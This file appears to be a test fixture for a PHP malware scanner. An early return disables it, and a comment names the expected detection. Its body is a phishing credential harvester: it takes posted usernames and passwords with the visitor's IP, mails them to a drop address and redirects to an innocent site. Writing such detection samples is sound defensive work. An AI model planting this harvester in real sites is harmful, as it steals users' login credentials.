<?php return; // want: suspicious credential_mailer php.mail.secret
$ip = getenv('REMOTE_ADDR') ?: $_SERVER['REMOTE_ADDR'];
$msg = "user: " . $_POST['user'] . "\npass: " . $_POST['password'] . "\nip: $ip\n";
mail('drop@example.net', 'new', $msg);
header('Location: https://example.org/');
